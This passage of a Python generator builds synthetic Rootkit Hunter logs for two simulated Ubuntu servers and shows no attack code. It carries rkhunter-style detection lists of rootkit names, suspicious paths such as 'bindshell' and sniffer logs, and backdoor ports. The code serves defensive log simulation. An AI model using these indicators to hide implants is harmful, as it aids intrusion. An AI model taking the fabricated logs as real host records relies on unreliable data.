    "find",
    "fuser",
    "GET",
    "grep",
    "groups",
    "head",
    "id",
    "ifconfig",
    "ifdown",
    "ifup",
    "init",
    "insmod",
    "ip",
    "ipcs",
    "kill",
    "killall",
    "last",
    "lastlog",
    "ldd",
    "less",
    "locate",
    "logger",
    "login",
    "ls",
    "lsattr",
    "lsmod",
    "lsof",
    "mail",
    "md5",
    "md5sum",
    "mktemp",
    "modinfo",
    "modload",
    "modprobe",
    "modstat",
    "modunload",
    "more",
    "mount",
    "mv",
    "netstat",
    "newgrp",
    "passwd",
    "perl",
    "pgrep",
    "ping",
    "pkill",
    "ps",
    "pstree",
    "pwd",
    "readlink",
    "rkhunter",
    "rmmod",
    "route",
    "rpm",
    "runcon",
    "sed",
    "sh",
    "sha1",
    "sha1sum",
    "sha224",
    "sha224sum",
    "sha256",
    "sha256sum",
    "sha384",
    "sha384sum",
    "sha512",
    "sha512sum",
    "size",
    "sort",
    "ssh",
    "stat",
    "strace",
    "strings",
    "su",
    "sudo",
    "sulogin",
    "sysctl",
    "tail",
    "telnet",
    "test",
    "top",
    "touch",
    "tr",
    "uname",
    "uniq",
    "users",
    "vipw",
    "vmstat",
    "w",
    "watch",
    "wc",
    "wget",
    "whatis",
    "whereis",
    "which",
    "who",
    "whoami",
    "numfmt",
    "kmod",
    "systemd",
    "systemctl",
    "gawk",
    "bsd-mailx",
    "dash",
    "x86_64-linux-gnu-size",
    "x86_64-linux-gnu-strings",
    "busybox",
]
RK_MISSING = {
    "ed",
    "GET",
    "ifconfig",
    "ifdown",
    "ifup",
    "locate",
    "mail",
    "md5",
    "modload",
    "modstat",
    "modunload",
    "netstat",
    "route",
    "rpm",
    "sha1",
    "sha224",
    "sha256",
    "sha384",
    "sha512",
    "strace",
    "telnet",
    "whatis",
    "bsd-mailx",
    "busybox",
}
RK_SBIN = {
    "depmod",
    "ifconfig",
    "ifdown",
    "ifup",
    "init",
    "insmod",
    "lsmod",
    "modinfo",
    "modprobe",
    "rmmod",
    "route",
    "sulogin",
    "sysctl",
    "vipw",
}
RK_PROPS = [
    "/usr/sbin/adduser", "/usr/sbin/chroot", "/usr/sbin/cron", "/usr/sbin/depmod", "/usr/sbin/fsck", "/usr/sbin/groupadd", "/usr/sbin/groupdel", "/usr/sbin/groupmod", "/usr/sbin/grpck", "/usr/sbin/init", "/usr/sbin/insmod", "/usr/sbin/ip", "/usr/sbin/lsmod", "/usr/sbin/modinfo", "/usr/sbin/modprobe", "/usr/sbin/nologin", "/usr/sbin/pwck", "/usr/sbin/rmmod", "/usr/sbin/rsyslogd", "/usr/sbin/runlevel", "/usr/sbin/sshd", "/usr/sbin/sulogin", "/usr/sbin/sysctl", "/usr/sbin/useradd", "/usr/sbin/userdel", "/usr/sbin/usermod", "/usr/sbin/vipw", "/usr/sbin/unhide", "/usr/sbin/unhide-linux", "/usr/sbin/unhide-posix", "/usr/sbin/unhide-tcp",
    "/usr/bin/awk", "/usr/bin/basename", "/usr/bin/bash", "/usr/bin/cat", "/usr/bin/chattr", "/usr/bin/chmod", "/usr/bin/chown", "/usr/bin/cp", "/usr/bin/curl", "/usr/bin/cut", "/usr/bin/date", "/usr/bin/df", "/usr/bin/diff", "/usr/bin/dirname", "/usr/bin/dmesg", "/usr/bin/dpkg", "/usr/bin/dpkg-query", "/usr/bin/du", "/usr/bin/echo", "/usr/bin/egrep", "/usr/bin/env", "/usr/bin/fgrep", "/usr/bin/file", "/usr/bin/find", "/usr/bin/fuser", "/usr/bin/grep", "/usr/bin/groups", "/usr/bin/head", "/usr/bin/id", "/usr/bin/ip", "/usr/bin/ipcs", "/usr/bin/kill", "/usr/bin/killall", "/usr/bin/last", "/usr/bin/lastlog", "/usr/bin/ldd", "/usr/bin/less", "/usr/bin/logger", "/usr/bin/login", "/usr/bin/ls", "/usr/bin/lsattr", "/usr/bin/lsof", "/usr/bin/lwp-request", "/usr/bin/mawk", "/usr/bin/md5sum", "/usr/bin/mktemp", "/usr/bin/more", "/usr/bin/mount", "/usr/bin/mv", "/usr/bin/newgrp", "/usr/bin/passwd", "/usr/bin/perl", "/usr/bin/pgrep", "/usr/bin/ping", "/usr/bin/pkill", "/usr/bin/ps", "/usr/bin/pstree", "/usr/bin/pwd", "/usr/bin/readlink", "/usr/bin/rkhunter", "/usr/bin/runcon", "/usr/bin/sed", "/usr/bin/sh", "/usr/bin/sha1sum", "/usr/bin/sha224sum", "/usr/bin/sha256sum", "/usr/bin/sha384sum", "/usr/bin/sha512sum", "/usr/bin/size", "/usr/bin/sort", "/usr/bin/ssh", "/usr/bin/stat", "/usr/bin/strings", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/tail", "/usr/bin/test", "/usr/bin/top", "/usr/bin/touch", "/usr/bin/tr", "/usr/bin/uname", "/usr/bin/uniq", "/usr/bin/users", "/usr/bin/vmstat", "/usr/bin/w", "/usr/bin/watch", "/usr/bin/wc", "/usr/bin/wget", "/usr/bin/whereis", "/usr/bin/which", "/usr/bin/who", "/usr/bin/whoami", "/usr/bin/numfmt", "/usr/bin/kmod", "/usr/bin/systemd", "/usr/bin/systemctl", "/usr/bin/gawk", "/usr/bin/dash", "/usr/bin/x86_64-linux-gnu-size", "/usr/bin/x86_64-linux-gnu-strings",
    "/usr/lib/systemd/systemd", "/etc/rkhunter.conf",
]  # fmt: skip
RK_ROOTKITS = [
    "55808 Trojan - Variant A", "ADM Worm", "AjaKit Rootkit", "Adore Rootkit", "aPa Kit", "Apache Worm", "Ambient (ark) Rootkit", "Balaur Rootkit", "BeastKit Rootkit", "beX2 Rootkit", "BOBKit Rootkit", "cb Rootkit", "CiNIK Worm (Slapper.B variant)", "Danny-Boy's Abuse Kit", "Devil RootKit", "Diamorphine LKM", "Dica-Kit Rootkit", "Dreams Rootkit", "Duarawkz Rootkit", "Ebury backdoor", "Enye LKM", "Flea Linux Rootkit", "Fu Rootkit", "Fuck`it Rootkit", "GasKit Rootkit", "Heroin LKM", "HjC Kit", "ignoKit Rootkit", "IntoXonia-NG Rootkit", "Irix Rootkit", "Jynx Rootkit", "Jynx2 Rootkit", "KBeast Rootkit", "Kitko Rootkit", "Knark Rootkit", "ld-linuxv.so Rootkit", "Li0n Worm", "Lockit / LJK2 Rootkit", "Mokes backdoor", "Mood-NT Rootkit", "MRK Rootkit", "Ni0 Rootkit", "Ohhara Rootkit", "Optic Kit (Tux) Worm", "Oz Rootkit", "Phalanx Rootkit", "Phalanx2 Rootkit", "Phalanx2 Rootkit (extended tests)", "Portacelo Rootkit", "R3dstorm Toolkit", "RH-Sharpe's Rootkit", "RSHA's Rootkit", "Scalper Worm", "Sebek LKM", "Shutdown Rootkit", "SHV4 Rootkit", "SHV5 Rootkit", "Sin Rootkit", "Slapper Worm", "Sneakin Rootkit", "'Spanish' Rootkit", "Suckit Rootkit", "Superkit Rootkit", "TBD (Telnet BackDoor)", "TeLeKiT Rootkit", "T0rn Rootkit", "trNkit Rootkit", "Trojanit Kit", "Tuxtendo Rootkit", "URK Rootkit", "Vampire Rootkit", "VcKit Rootkit", "Volc Rootkit", "Xzibit Rootkit", "zaRwT.KiT Rootkit", "ZK Rootkit",
]  # fmt: skip
RK_DIRS = [
    "/usr/lib",
    "/usr/bin",
    "/usr/sbin",
    "/dev",
    "/tmp",
    "/var/tmp",
    "/etc",
    "/usr/include",
    "/usr/share/man/man1",
    "/usr/local/bin",
    "/lib/security",
    "/usr/src/.puta",
    "/var/log",
    "/usr/share/.sshd",
    "/dev/.lib",
    "/usr/info",
]
RK_NAMES = [
    "libproc.a",
    "lidps1.so",
    ".sshrc",
    "crontabs.bak",
    "lsfx",
    "sniff.log",
    "bindshell",
    "xlogin",
    ".1proc",
    "t0rnsb",
    "hdparm.conf",
    "mkxfs",
    ".config",
    "sk",
    "ttyop",
    "utmp.bak",
    "libext-2.so.7",
    "kdbg",
    "adore.o",
    "cleaner",
    "nfsd.conf",
    ".x",
    "ssh2d",
    "lilod",
    "syslogk",
    "pstree.sh",
    ".rc",
    "ld.so.hash",
    "fixer",
    "mod_ssl.so.1",
]
RK_STRINGS = [
    "/dev/ptyxx",
    "/usr/bin/xchk",
    "/usr/bin/xsf",
    "/dev/xdf1",
    "/dev/xdf2",
    "/usr/bin/ssh2d",
    "/usr/include/hosts.h",
    "/usr/lib/.bkit-",
    "/usr/lib/libsh",
    "/dev/srd0",
    "/usr/src/.puta",
    "/usr/info/.t0rn",
    "/etc/.acid",
    "/usr/lib/.fx",
    "/dev/.lib",
    "lib/security/.config",
    "lpsched",
    "/usr/local/.lpd",
    "/usr/lib/ldlibpst.so",
    "/dev/hdbb",
    "/usr/bin/duarawkz",
    "/etc/rc.d/rc.local~",
    "bin/.login",
    "/usr/bin/ssh2d",
    "hax0r",
    "libcrypt.so.1",
    "/tmp/.xp",
    "/usr/sbin/in.telnet",
    "backdoor.h",
    "/dev/ida/.inet",
    "/usr/lib/.kinetic",
    "/dev/.golf",
    "/var/run/.tmp",
    "/usr/share/.aPa",
    "/usr/bin/sourcemask",
]
RK_PORTS = [
    ("TCP", p)
    for p in (
        1524,
        1984,
        2001,
        2006,
        2128,
        14856,
        15858,
        17300,
        18667,
        19099,
        20003,
        23132,
        26274,
        29812,
        31337,
        32982,
        33369,
        47107,
        47018,
        60922,
        62883,
        65535,
    )
] + [("UDP", p) for p in (2001, 17300, 39168)]
RK_LOGIN_BD = ["/bin/.login", "/sbin/.login", "/usr/bin/.login", "/usr/sbin/.login"]
RK_SNIFF = ["/usr/lib/libice.log", "/dev/prom/sn.l", "/dev/fd/.88/zxsniff.log", "/var/log/.ssh.log"]
RK_SUSP_DIRS = ["/usr/X11R6/bin/.,/copy", "/dev/rd/cdb"]


def rkhunter(r: random.Random) -> list[Log]:
    """Rootkit Hunter 1.4.6 on two Ubuntu 22.04 hosts, /var/log/rkhunter.log
    (`web01-rkhunter.log`, `db01-rkhunter.log`): cron.daily's `--cronjob --report-warnings-only
    --appendlog` run at 06:25 on both; on web01 it finds the binaries unattended-upgrades replaced
    at 06:06 (openssh and curl: `The file properties have changed:` with the hash, inode, size and
    modification time under it), the Perl script in place of lwp-request and a PermitRootLogin
    that differs from the configuration; on db01 PostgreSQL's shared memory in /dev/shm and the
    barman user and group added the day before. At 09:58 an admin runs `rkhunter --propupd` on
    web01 and at 10:04 `rkhunter --check --sk` again."""
    fs = Files()
    db = random.Random(r.random())
    files = {
        rk: [
            (
                db.choice(["file", "file", "file", "directory"]),
                f"{db.choice(RK_DIRS)}/{db.choice(RK_NAMES)}",
            )
            for _ in range(db.choice([1, 2, 2, 3, 3, 4]))
        ]
        for rk in RK_ROOTKITS
    }
    ksyms = {
        rk: [
            db.choice(
                [
                    "hide_tcp4_port",
                    "sys_getdents_hook",
                    "kbeast",
                    "phalanx",
                    "fu_getdents",
                    "diamorphine_init",
                ]
            )
        ]
        for rk in db.sample(RK_ROOTKITS, 9)
    }

    def runner(host: str, t: datetime, run: int):
        f = f"{host}-rkhunter.log"
        proc = (host, run)
        now = [t]

        def D(
            label: str | None,
            msg: str | Callable[[datetime], str],
            indent: int = 0,
            result: str = "",
            typ: str = "",
            nl: bool = False,
            dt: float = 1.0,
        ) -> datetime:
            x = clock_at(fs, proc, now[0] + sec(dt), 1_000_000)
            now[0] = x
            if callable(msg):
                msg = msg(x)
            stamp = f"[{x:%H:%M:%S}]"
            if nl:
                raw(fs, f, x, None, [stamp])
            line = f"{stamp} {typ}: {msg}" if typ else f"{stamp} {' ' * indent}{msg}"
            if result:
                pad = max(1, 62 - (len(line) + 1))
                line += " " * pad + f"[ {result} ]"
                if label is not None:
                    label += f" [ {result} ]"
            fs.files.setdefault(f, Records()).add(x, [line], label)  # type: ignore[arg-type]
            return x

        return D, now

    def header(D, now, host: str, cmdline: str, osname: str, check: bool) -> None:
        raw(fs, f"{host}-rkhunter.log", now[0], None, ["", ""])
        D("Running %s version %s on %s", f"Running Rootkit Hunter version 1.4.6 on {host}", dt=0)
        D(
            "Start date is %s",
            lambda x: f"Start date is {x:%a %b} {x.day:2d} {x:%H:%M:%S} UTC {x.year}",
            typ="Info",
            nl=True,
            dt=0,
        )
        D(
            "Checking configuration file and command-line options...",
            "Checking configuration file and command-line options...",
            nl=True,
        )
        D("Detected operating system is '%s'", "Detected operating system is 'Linux'", typ="Info")
        D("Found O/S name: %s", f"Found O/S name: {osname}", typ="Info")
        D("Command line is %s", f"Command line is {cmdline}", typ="Info")
        D(
            "Environment shell is %s; rkhunter is using %s",
            "Environment shell is /bin/sh; rkhunter is using dash"
            if "cron" in cmdline
            else "Environment shell is /bin/bash; rkhunter is using dash",
            typ="Info",
        )
        D(
            "Using configuration file '%s'",
            "Using configuration file '/etc/rkhunter.conf'",
            typ="Info",
        )
        D("Installation directory is '%s'", "Installation directory is '/usr'", typ="Info")
        D("Using language '%s'", "Using language 'en'", typ="Info")
        D(
            "Using '%s' as the database directory",
            "Using '/var/lib/rkhunter/db' as the database directory",
            typ="Info",
        )
        D(
            "Using '%s' as the support script directory",
            "Using '/usr/share/rkhunter/scripts' as the support script directory",
            typ="Info",
        )
        D(
            "Using '%s' as the command directories",
            "Using '/usr/local/sbin /usr/local/bin /usr/sbin /usr/bin /sbin /bin /usr/libexec' as the command directories",
            typ="Info",
        )
        D(
            "Using '%s' as the temporary directory",
            "Using '/var/lib/rkhunter/tmp' as the temporary directory",
            typ="Info",
        )
        if check:
            D(
                "No mail-on-warning address configured",
                "No mail-on-warning address configured",
                typ="Info",
            )
        D("X will be automatically detected", "X will be automatically detected", typ="Info")
        for c in RK_CMDS:
            if c in RK_MISSING:
                D(
                    "Unable to find the '%s' command",
                    f"Unable to find the '{c}' command",
                    typ="Info",
                )
            else:
                d = "/usr/sbin" if c in RK_SBIN else "/usr/bin"
                D("Found the '%s' command: %s", f"Found the '{c}' command: {d}/{c}", typ="Info")
        D("System is not using prelinking", "System is not using prelinking", typ="Info")
        D(
            "Using the '%s' command for the file hash checks",
            "Using the 'sha256sum' command for the file hash checks",
            typ="Info",
        )
        D(
            "Stored hash values used hash function '%s'",
            "Stored hash values used hash function 'sha256sum'",
            typ="Info",
        )
        D(
            "Stored hash values did not use a package manager",
            "Stored hash values did not use a package manager",
            typ="Info",
        )
        if check:
            D(
                "No package manager specified: using hash function '%s'",
                "No package manager specified: using hash function 'sha256sum'",
                typ="Info",
            )
            D(
                "Previous file attributes were stored",
                "Previous file attributes were stored",
                typ="Info",
            )
            D("Enabled tests are: %s", "Enabled tests are: ALL", typ="Info")
            D(
                "Disabled tests are: %s",
                "Disabled tests are: suspscan hidden_ports hidden_procs deleted_files packet_cap_apps apps",
                typ="Info",
            )
        else:
            D(
                "No file hash update package manager specified: using hash function '%s'",
                "No file hash update package manager specified: using hash function 'sha256sum'",
                typ="Info",
            )
            D(
                "Current file attributes will be stored",
                "Current file attributes will be stored",
                typ="Info",
            )
        if check:
            D("Found ksym file '%s'", "Found ksym file '/proc/kallsyms'", typ="Info")
            D(
                "Using syslog for some logging - facility/priority level is '%s'.",
                "Using syslog for some logging - facility/priority level is 'authpriv.warning'.",
                typ="Info",
            )
            D(
                "Found the '%s' command: %s",
                "Found the 'logger' command: /usr/bin/logger",
                typ="Info",
            )
            D(
                "Checking if the O/S has changed since last time...",
                "Checking if the O/S has changed since last time...",
                typ="Info",
                nl=True,
            )
            D("Nothing seems to have changed", "Nothing seems to have changed", typ="Info")
        D("Locking is not being used", "Locking is not being used", typ="Info")

    def check_run(
        host: str, t: datetime, run: int, cmdline: str, changed: dict, db_host: bool
    ) -> None:
        D, now = runner(host, t, run)
        t_start = t
        header(D, now, host, cmdline, "Ubuntu 22.04.4 LTS", True)
        warn = 0
        D("Checking system commands...", "Checking system commands...", nl=True)
        D("Starting test name 'strings'", "Starting test name 'strings'", typ="Info", nl=True)
        D("Performing 'strings' command checks", "Performing 'strings' command checks")
        for s in RK_STRINGS:
            D("Scanning for string %s", f"Scanning for string {s}", indent=2, result="OK", dt=0.4)
        D("Checking 'strings' command", "Checking 'strings' command", result="OK")
        D(
            "Starting test name 'shared_libs'",
            "Starting test name 'shared_libs'",
            typ="Info",
            nl=True,
        )
        D("Performing 'shared libraries' checks", "Performing 'shared libraries' checks")
        D(
            "Checking for preloading variables",
            "Checking for preloading variables",
            result="None found",
        )
        D(
            "Checking for preloaded libraries",
            "Checking for preloaded libraries",
            result="None found",
        )
        D(
            "Checking LD_LIBRARY_PATH variable",
            "Checking LD_LIBRARY_PATH variable",
            result="Not found",
        )
        D("Starting test name 'properties'", "Starting test name 'properties'", typ="Info", nl=True)
        D("Performing file properties checks", "Performing file properties checks")
        D("Checking for prerequisites", "Checking for prerequisites", result="OK")
        suspect = 0
        for p in RK_PROPS:
            if p in changed or p == "/usr/bin/lwp-request":
                suspect += 1
                D("%s", p, result="Warning", dt=1.5)
                warn += 1
                if p == "/usr/bin/lwp-request":
                    D(
                        "The command '%s' has been replaced by a script: %s",
                        f"The command '{p}' has been replaced by a script: {p}: Perl script text executable",
                        typ="Warning",
                    )
                    continue
                D(
                    "The file properties have changed:",
                    "The file properties have changed:",
                    typ="Warning",
                )
                inode, size, mtime = changed[p]
                for line in [
                    f"File: {p}",
                    f"Current hash: {hashlib.sha256((p + 'new').encode()).hexdigest()}",
                    f"Stored hash : {hashlib.sha256(p.encode()).hexdigest()}",
                    f"Current inode: {inode[0]}    Stored inode: {inode[1]}",
                    f"Current size: {size[0]}    Stored size: {size[1]}",
                    f"Current file modification time: {int(mtime[0].timestamp())} ({mtime[0]:%d-%b-%Y %H:%M:%S})",
                    f"Stored file modification time : {int(mtime[1].timestamp())} ({mtime[1]:%d-%b-%Y %H:%M:%S})",
                ]:
                    D(None, line, indent=9)
            else:
                D("%s", p, result="OK", dt=r.choice([0.5, 1, 1, 2]))
        D("Starting test name 'rootkits'", "Starting test name 'rootkits'", typ="Info", nl=True)
        D("Checking for rootkits...", "Checking for rootkits...")
        D("Starting test name 'known_rkts'", "Starting test name 'known_rkts'", typ="Info", nl=True)
        D(
            "Performing check of known rootkit files and directories",
            "Performing check of known rootkit files and directories",
        )
        for rk in RK_ROOTKITS:
            D("Checking for %s...", f"Checking for {rk}...", nl=True, dt=0.5)
            for kind, path in files[rk]:
                D(
                    f"Checking for {kind} '%s'",
                    f"Checking for {kind} '{path}'",
                    indent=2,
                    result="Not found",
                    dt=0.3,
                )
            for k in ksyms.get(rk, []):
                D(
                    "Checking for kernel symbol '%s'",
                    f"Checking for kernel symbol '{k}'",
                    indent=2,
                    result="Not found",
                    dt=0.5,
                )
            D("%s", rk, result="Not found", dt=0.2)
        D(
            "Starting test name 'additional_rkts'",
            "Starting test name 'additional_rkts'",
            typ="Info",
            nl=True,
        )
        D("Performing additional rootkit checks", "Performing additional rootkit checks")
        D(
            "Performing Suckit Rookit additional checks",
            "Performing Suckit Rookit additional checks",
        )
        D("Suckit Rookit additional checks", "Suckit Rookit additional checks", result="OK")
        D(
            "Performing check of possible rootkit files and directories",
            "Performing check of possible rootkit files and directories",
            nl=True,
        )
        D(
            "Checking for possible rootkit files and directories",
            "Checking for possible rootkit files and directories",
            result="None found",
            dt=6,
        )
        D(
            "Performing check for possible rootkit strings",
            "Performing check for possible rootkit strings",
            nl=True,
        )
        D(
            "Checking for possible rootkit strings",
            "Checking for possible rootkit strings",
            result="None found",
            dt=9,
        )
        D("Starting test name 'malware'", "Starting test name 'malware'", typ="Info", nl=True)
        D("Performing malware checks", "Performing malware checks")
        D(
            "Checking running processes for suspicious files",
            "Checking running processes for suspicious files",
            result="None found",
            dt=14,
        )
        D("Performing check for login backdoors", "Performing check for login backdoors", nl=True)
        for p in RK_LOGIN_BD:
            D("Checking for '%s'", f"Checking for '{p}'", indent=2, result="Not found")
        D("Checking for login backdoors", "Checking for login backdoors", result="None found")
        D(
            "Performing check for sniffer log files",
            "Performing check for sniffer log files",
            nl=True,
        )
        for p in RK_SNIFF:
            D("Checking for '%s'", f"Checking for '{p}'", indent=2, result="Not found")
        D("Checking for sniffer log files", "Checking for sniffer log files", result="None found")
        D(
            "Performing check for suspicious directories",
            "Performing check for suspicious directories",
            nl=True,
        )
        for p in RK_SUSP_DIRS:
            D("Checking for '%s'", f"Checking for '{p}'", indent=2, result="Not found")
        D(
            "Checking for suspicious directories",
            "Checking for suspicious directories",
            result="None found",
        )
        D("Starting test name 'trojans'", "Starting test name 'trojans'", typ="Info", nl=True)
        D("Performing trojan specific checks", "Performing trojan specific checks")
        D(
            "Checking for enabled inetd services",
            "Checking for enabled inetd services",
            result="Skipped",
        )
        D(
            "Check skipped - file '%s' does not exist.",
            "Check skipped - file '/etc/inetd.conf' does not exist.",
            typ="Info",
        )
        D("Checking for Apache backdoor", "Checking for Apache backdoor", result="Not found")
        D(
            "Starting test name 'os_specific'",
            "Starting test name 'os_specific'",
            typ="Info",
            nl=True,
        )
        D("Performing Linux specific checks", "Performing Linux specific checks")
        D("Checking loaded kernel modules", "Checking loaded kernel modules", result="OK", dt=3)
        D("Checking kernel module names", "Checking kernel module names", result="OK", dt=4)
        D(
            "Using modules pathname of '%s'",
            "Using modules pathname of '/lib/modules/5.15.0-112-generic'",
            typ="Info",
        )
        D("Checking the network...", "Checking the network...", nl=True)
        D("Starting test name 'ports'", "Starting test name 'ports'", typ="Info", nl=True)
        D("Performing checks on the network ports", "Performing checks on the network ports")
        for proto, p in RK_PORTS:
            D(
                "Checking for %s port %s",
                f"Checking for {proto} port {p}",
                indent=2,
                result="Not found",
                dt=0.3,
            )
        D("Checking for backdoor ports", "Checking for backdoor ports", result="None found")
        D("Starting test name 'promisc'", "Starting test name 'promisc'", typ="Info", nl=True)
        D(
            "Performing checks on the network interfaces",
            "Performing checks on the network interfaces",
        )
        D(
            "Checking for promiscuous interfaces",
            "Checking for promiscuous interfaces",
            result="None found",
        )
        D("Checking the local host...", "Checking the local host...", nl=True)
        D(
            "Starting test name 'startup_files'",
            "Starting test name 'startup_files'",
            typ="Info",
            nl=True,
        )
        D("Performing system boot checks", "Performing system boot checks")
        D("Checking for local host name", "Checking for local host name", result="Found")
        D("Checking for system startup files", "Checking for system startup files", result="Found")
        D(
            "Checking system startup files for malware",
            "Checking system startup files for malware",
            result="None found",
            dt=5,
        )
        D(
            "Starting test name 'group_accounts'",
            "Starting test name 'group_accounts'",
            typ="Info",
            nl=True,
        )
        D("Performing group and account checks", "Performing group and account checks")
        D("Checking for passwd file", "Checking for passwd file", result="Found")
        D(
            "Checking for root equivalent (UID 0) accounts",
            "Checking for root equivalent (UID 0) accounts",
            result="None found",
        )
        D(
            "Checking for passwordless accounts",
            "Checking for passwordless accounts",
            result="None found",
        )
        if db_host and run == 0:
            D(
                "Checking for passwd file changes",
                "Checking for passwd file changes",
                result="Warning",
            )
            D(
                "Users have been added to the passwd file:",
                "Users have been added to the passwd file:",
                typ="Warning",
            )
            D(None, "barman", indent=9)
            D(
                "Checking for group file changes",
                "Checking for group file changes",
                result="Warning",
            )
            D(
                "Groups have been added to the group file:",
                "Groups have been added to the group file:",
                typ="Warning",
            )
            D(None, "barman", indent=9)
            warn += 2
        else:
            D(
                "Checking for passwd file changes",
                "Checking for passwd file changes",
                result="None found",
            )
            D(
                "Checking for group file changes",
                "Checking for group file changes",
                result="None found",
            )
        D(
            "Checking root account shell history files",
            "Checking root account shell history files",
            result="OK",
        )
        D(
            "Starting test name 'system_configs'",
            "Starting test name 'system_configs'",
            typ="Info",
            nl=True,
        )
        D(
            "Performing system configuration file checks",
            "Performing system configuration file checks",
        )
        D(
            "Checking for an SSH configuration file",
            "Checking for an SSH configuration file",
            result="Found",
        )
        D(
            "Found SSH configuration file: %s",
            "Found SSH configuration file: /etc/ssh/sshd_config",
            typ="Info",
        )
        if not db_host:
            D(
                "Checking if SSH root access is allowed",
                "Checking if SSH root access is allowed",
                result="Warning",
            )
            D(
                "The SSH and rkhunter configuration options should be the same:",
                "The SSH and rkhunter configuration options should be the same:",
                typ="Warning",
            )
            D(None, "SSH configuration option 'PermitRootLogin': prohibit-password", indent=9)
            D(None, "Rkhunter configuration option 'ALLOW_SSH_ROOT_USER': no", indent=9)
            warn += 1
        else:
            D(
                "Checking if SSH root access is allowed",
                "Checking if SSH root access is allowed",
                result="Not allowed",
            )
        D(
            "Checking if SSH protocol v1 is allowed",
            "Checking if SSH protocol v1 is allowed",
            result="Not set",
        )
        D(
            "Checking for other suspicious configuration settings",
            "Checking for other suspicious configuration settings",
            result="None found",
        )
        D(
            "Checking for a running system logging daemon",
            "Checking for a running system logging daemon",
            result="Found",
        )
        D(
            "Checking for a system logging configuration file",
            "Checking for a system logging configuration file",
            result="Found",
        )
        D(
            "Checking if syslog remote logging is allowed",
            "Checking if syslog remote logging is allowed",
            result="Not allowed",
        )
        D("Starting test name 'filesystem'", "Starting test name 'filesystem'", typ="Info", nl=True)
        D("Performing filesystem checks", "Performing filesystem checks")
        if db_host:
            D(
                "Checking /dev for suspicious file types",
                "Checking /dev for suspicious file types",
                result="Warning",
                dt=3,
            )
            D(
                "Suspicious file types found in %s:",
                "Suspicious file types found in /dev:",
                typ="Warning",
            )
            for seg in (1911178710, 2047582394):
                D(None, f"/dev/shm/PostgreSQL.{seg}: data", indent=9)
            warn += 1
        else:
            D(
                "Checking /dev for suspicious file types",
                "Checking /dev for suspicious file types",
                result="None found",
                dt=3,
            )
        D(
            "Checking for hidden files and directories",
            "Checking for hidden files and directories",
            result="None found",
            dt=4,
        )
        D("System checks summary", "System checks summary", nl=True)
        D("=====================", "=====================", dt=0)
        D("File properties checks...", "File properties checks...", nl=True)
        D("Files checked: %s", f"Files checked: {len(RK_PROPS)}")
        D("Suspect files: %s", f"Suspect files: {suspect}")
        D("Rootkit checks...", "Rootkit checks...", nl=True)
        D("Rootkits checked : %s", "Rootkits checked : 498")
        D("Possible rootkits: %s", "Possible rootkits: 0")
        D("Applications checks...", "Applications checks...", nl=True)
        D("All checks skipped", "All checks skipped")
        took = int((now[0] - t_start).total_seconds())
        D(
            "The system checks took: %s",
            f"The system checks took: {took // 60} minutes and {took % 60} seconds",
            nl=True,
        )
        D(
            "End date is %s",
            lambda x: f"End date is {x:%a %b} {x.day:2d} {x:%H:%M:%S} UTC {x.year}",
            typ="Info",
            nl=True,
        )

    def propupd(host: str, t: datetime, run: int) -> None:
        D, now = runner(host, t, run)
        header(D, now, host, "/usr/bin/rkhunter --propupd", "Ubuntu 22.04.4 LTS", False)
        D(
            "Starting file properties data update...",
            "Starting file properties data update...",
            typ="Info",
            nl=True,
        )
        D("Collecting O/S info...", "Collecting O/S info...", typ="Info", nl=True)
        D("Found system architecture: %s", "Found system architecture: x86_64", typ="Info")
        D("Found release file: %s", "Found release file: /etc/lsb-release", typ="Info")
        D("Found O/S name: %s", "Found O/S name: Ubuntu 22.04.4 LTS", typ="Info")
        D("Getting file properties...", "Getting file properties...", typ="Info", nl=True)
        D(
            "File %s: searched for %s files, found %s",
            f"File {len(RK_PROPS) + 27}: searched for {len(RK_PROPS) + 27} files, found {len(RK_PROPS)}",
            typ="Info",
            dt=40,
        )
        D(
            "New rkhunter.dat file installed in '%s'",
            "New rkhunter.dat file installed in '/var/lib/rkhunter/db'",
            typ="Info",
            dt=2,
        )
        D(
            "End date is %s",
            lambda x: f"End date is {x:%a %b} {x.day:2d} {x:%H:%M:%S} UTC {x.year}",
            typ="Info",
            nl=True,
        )

    upd = at(6, 6, 41)
    old = at(4, 2, 17) - timedelta(days=57)
    changed = {
        "/usr/bin/curl": (
            (1837402, 1835120),
            (260328, 260328),
            (upd, at(8, 13, 2) - timedelta(days=71)),
        ),
        "/usr/bin/ssh": ((1837415, 1834471), (846888, 846888), (upd + sec(2), old)),
        "/usr/sbin/sshd": ((1837419, 1834480), (921480, 917384), (upd + sec(2), old)),
    }
    cron = "/usr/bin/rkhunter --cronjob --report-warnings-only --appendlog"
    check_run("web01", at(6, 25, 3), 0, cron, changed, False)
    check_run("db01", at(6, 25, 9), 0, cron, {}, True)
    propupd("web01", at(9, 58, 12), 1)
    check_run("web01", at(10, 4, 40), 2, "/usr/bin/rkhunter --check --sk", {}, False)
    return fs.logs(T0)


# ---------------------------------------------------------------------------------- sysmon-linux

SM_PROVIDER = '<Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
SM_HOSTS = {"web01": ("web01-syslog", "a7c41e2b", 812), "db01": ("db01-messages", "3e90d5f1", 1044)}
# event id: (version, task, field names)
SM_EVENTS = {
    1: (5, 1, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "FileVersion", "Description", "Product", "Company", "OriginalFileName", "CommandLine", "CurrentDirectory", "User", "LogonGuid", "LogonId", "TerminalSessionId", "IntegrityLevel", "Hashes", "ParentProcessGuid", "ParentProcessId", "ParentImage", "ParentCommandLine", "ParentUser"]),
    3: (5, 3, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "User", "Protocol", "Initiated", "SourceIsIpv6", "SourceIp", "SourceHostname", "SourcePort", "SourcePortName", "DestinationIsIpv6", "DestinationIp", "DestinationHostname", "DestinationPort", "DestinationPortName"]),
    4: (3, 4, ["UtcTime", "State", "Version", "SchemaVersion"]),
    5: (3, 5, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "User"]),
    9: (2, 9, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "Device", "User"]),
    11: (2, 11, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "TargetFilename", "CreationUtcTime", "User"]),
    16: (3, 16, ["UtcTime", "Configuration", "ConfigurationFileHash"]),
    23: (5, 23, ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "User", "Image", "TargetFilename", "Hashes", "IsExecutable", "Archived"]),
}  # fmt: skip
